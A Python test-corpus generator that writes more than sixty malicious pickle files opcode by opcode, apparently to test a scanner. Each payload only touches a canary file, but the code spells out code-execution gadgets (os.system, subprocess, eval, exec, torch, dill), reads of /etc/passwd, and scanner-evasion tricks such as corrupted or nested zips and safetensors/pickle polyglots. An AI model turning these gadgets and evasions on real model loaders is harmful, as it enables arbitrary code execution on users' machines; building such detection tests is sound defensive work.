"""Pickles that would do harm, written opcode by opcode: `corpus(canary)` is {name: bytes}.

Each of them, unpickled by the means it is meant for, creates or writes the file `canary`. Nothing here unpickles.
"""

import gzip
import io
import pickle
import struct
import zipfile
import zlib

STOP, MARK, REDUCE = b".", b"(", b"R"


def glob(module, name):
    """Protocol 0's way of naming something to import."""
    return f"c{module}\n{name}\n".encode()


def text(value):
    raw = value.encode()
    return b"X" + struct.pack("<I", len(raw)) + raw


def short(value):
    raw = value.encode()
    return b"\x8c" + bytes([len(raw)]) + raw


def call(module, name, *values):
    """name(*values) in protocol 0 spelling."""
    return glob(module, name) + MARK + b"".join(map(text, values)) + b"t" + REDUCE


def stacked_call(module, name, *values):
    """The same with STACK_GLOBAL, as protocol 4 writes it."""
    body = short(module) + short(name) + b"\x93" + b"".join(map(text, values))
    return body + {1: b"\x85", 2: b"\x86", 3: b"\x87"}[len(values)] + REDUCE


def framed(body):
    return b"\x80\x04\x95" + struct.pack("<Q", len(body) + 1) + body + STOP


def zipped(*members, method=zipfile.ZIP_STORED):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", method) as archive:
        for name, raw in members:
            archive.writestr(name, raw)
    return buffer.getvalue()


def numpy_file(body):
    header = b"{'descr': '|O', 'fortran_order': False, 'shape': (1,), }".ljust(117) + b"\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header + body


def corpus(canary):
    """{name: bytes} of more than sixty files."""
    shell, python = f"touch {canary}", f"open({str(canary)!r}, 'w')"
    plain = call("os", "system", shell) + STOP
    found = dict(_calls(shell, python, str(canary)))
    found |= dict(_spellings(shell, python))
    found |= dict(_containers(plain, framed(stacked_call("os", "system", shell))))
    found |= dict(_two_faces(plain))
    return found


def _calls(shell, python, canary):
    calls = [
        ("os", "system", shell), ("posix", "system", shell), ("nt", "system", shell), ("os", "popen", shell),
        ("subprocess", "getoutput", shell), ("subprocess", "Popen", shell), ("subprocess", "call", shell),
        ("subprocess", "check_output", shell), ("commands", "getoutput", shell), ("pty", "spawn", shell),
        ("builtins", "eval", python), ("builtins", "exec", python), ("__builtin__", "eval", python),
        ("__builtin__", "execfile", canary), ("builtins", "open", canary, "w"), ("builtins", "__import__", "os"),
        ("io", "open", canary, "w"), ("_io", "FileIO", canary, "w"), ("codecs", "open", canary, "w"),
        ("runpy", "_run_code", python), ("runpy", "run_path", canary), ("runpy", "run_module", "antigravity"),
        ("timeit", "main", python), ("timeit", "timeit", python), ("cProfile", "run", python),
        ("profile", "run", python),
        ("pdb", "run", python), ("bdb", "Bdb.run", python), ("trace", "Trace.run", python),
        ("code", "interact", python),
        ("doctest", "debug_script", python), ("idlelib.pyshell", "ModifiedInterpreter.runcommand", python),
        ("torch.jit.unsupported_tensor_ops", "execWrapper", python), ("torch", "load", canary),
        ("torch.utils.bottleneck.__main__", "run_cprofile", python),
        ("torch._dynamo.guards", "GuardBuilder.get", python),
        ("torch.storage", "_load_from_bytes", "\x80\x02."), ("torch.hub", "load", "owner/repo"),
        ("numpy.testing._private.utils", "runstring", python), ("numpy.f2py.crackfortran", "getlincoef", python),
        ("dill._dill", "_create_function", python), ("dill._dill", "_import_module", "os"), ("dill", "loads", "x"),
        ("cloudpickle.cloudpickle", "_make_function", python), ("joblib", "load", canary), ("pickle", "loads", "x"),
        ("pip", "main", "install"), ("ctypes", "CDLL", canary), ("importlib", "import_module", "os"),
        ("webbrowser", "open", "x"), ("shutil", "copyfile", "/etc/passwd", canary), ("pathlib", "Path.touch", canary),
        ("asyncio.unix_events", "_UnixSubprocessTransport._start", shell), ("marshal", "loads", "x"),
        ("logging.config", "_resolve", "os.system"), ("lib2to3.pgen2.grammar", "Grammar.loads", "x"),
        ("urllib.request", "urlretrieve", "file:///etc/passwd", canary), ("zipimport", "zipimporter", canary),
    ]  # fmt: skip
    for module, name, *values in calls:
        yield f"{module}.{name}", call(module, name, *values) + STOP


def _spellings(shell, python):
    yield "protocol 0 strings", b"cos\nsystem\n(S'" + shell.encode() + b"'\ntR."
    yield "protocol 0 unicode", b"cos\nsystem\n(V" + shell.encode() + b"\ntR."
    yield "inst", b"(S'" + shell.encode() + b"'\nios\nsystem\n."
    yield "obj", b"(" + glob("os", "system") + text(shell) + b"o."
    yield "newobj", glob("subprocess", "Popen") + MARK + text(shell) + b"t\x81."
    yield "newobj_ex", b"\x80\x04" + glob("subprocess", "Popen") + MARK + text(shell) + b"t}\x92."
    yield "build", glob("builtins", "object") + b")R}" + text("x") + glob("os", "system") + b"sb."
    for protocol in (1, 2, 3, 4, 5):
        yield f"protocol {protocol}", b"\x80" + bytes([protocol]) + call("os", "system", shell) + STOP
    yield "framed", framed(stacked_call("os", "system", shell))
    yield "memoised name", framed(short("system") + b"\x940" + short("os") + b"h\x00\x93" + text(shell) + b"\x85R")
    getattr_chain = glob("builtins", "getattr") + MARK + glob("builtins", "__import__") + MARK + text("os") + b"tR"
    yield "getattr chain", getattr_chain + text("system") + b"tR" + MARK + text(shell) + b"tR."
    yield "map", glob("builtins", "map") + MARK + glob("os", "system") + b"](" + text(shell) + b"etR."
    yield (
        "apply",
        glob("builtins", "bytes") + MARK + glob("functools", "partial") + b"(cos\nsystem\n" + text(shell) + b"tRtR.",
    )
    yield "extension registry", b"\x80\x02\x82\x01(" + text(shell) + b"tR."
    yield "persistent id", b"Pos.system\n" + call("os", "system", shell) + STOP
    yield "stacked", pickle.dumps({"epoch": 1}) + pickle.dumps([1, 2]) + call("os", "system", shell) + STOP
    yield "breaks after the deed", call("os", "system", shell) + b"\xff\xff\xff"
    yield "no stop", call("os", "system", shell)
    yield "popped", call("os", "system", shell) + b"0N."
    yield "empty lines", b"\x80\x02" + b"N0" * 5000 + call("os", "system", shell) + STOP
    yield "eval in a list", b"](" + call("builtins", "eval", python) + b"e."


def _containers(plain, framed_one):
    yield "torch zip", zipped(("archive/data.pkl", plain), ("archive/data/0", bytes(64)), ("archive/version", b"3\n"))
    yield "torch zip, protocol 4", zipped(("archive/data.pkl", framed_one), ("archive/version", b"3\n"))
    yield "deflated zip", zipped(("archive/data.pkl", plain), method=zipfile.ZIP_DEFLATED)
    yield "zip with another name", zipped(("archive/readme.txt", plain))
    nested = zipped(("inner.bin", zipped(("archive/data.pkl", plain))))
    yield "nested zip", nested
    yield "thrice nested zip", zipped(("a", nested))
    whole = zipped(("archive/data.pkl", plain))
    yield "zip with a wrong checksum", whole.replace(struct.pack("<I", zlib.crc32(plain)), b"\1\2\3\4")
    yield (
        "zip with a wrong checksum in its table",
        whole[:20] + whole[20:].replace(struct.pack("<I", zlib.crc32(plain)), b"\1\2\3\4"),
    )
    yield "zip with bytes after it", whole + b"\0" * 40
    yield "zip with a comment", whole[:-2] + struct.pack("<H", 5) + b"hello"
    yield (
        "zip said to be encrypted",
        whole.replace(b"PK\x01\x02\x14\x03\x14\x00\x00", b"PK\x01\x02\x14\x03\x14\x00\x01"),
    )
    yield "zip without its table", whole[: whole.rfind(b"PK\x01\x02")]
    yield "npy of objects", numpy_file(plain)
    yield "npz of objects", zipped(("arr.npy", numpy_file(framed_one)))
    yield "gzipped", gzip.compress(plain)
    yield "raw zlib", zlib.compress(plain)


def _two_faces(plain):
    """Sound .safetensors files that are sound pickles or archives as well."""
    yield "safetensors and pickle", _pickle_in_safetensors(b"0" + plain)
    whole = zipped(("archive/data.pkl", plain))
    head = _header("", len(whole))
    yield "safetensors and zip", len(head).to_bytes(8, "little") + head + whole


def _header(note, size):
    described = f'"emb_params":{{"dtype":"U8","shape":[{size}],"data_offsets":[0,{size}]}}}}'
    return f'{{"__metadata__":{{"a":"{note}"}},{described}'.encode()


def _pickle_in_safetensors(program):
    """The header's length reads as "a string of 30 bytes follows"; behind it stands the opcode V, which takes the
    rest of the header, up to a line's end, for another string; then the data is read as opcodes."""
    length = 30 << 8 | ord("X")
    head = _header("x" * 5 + "V", len(program))
    return length.to_bytes(8, "little") + head + b" " * (length - len(head) - 1) + b"\n" + program
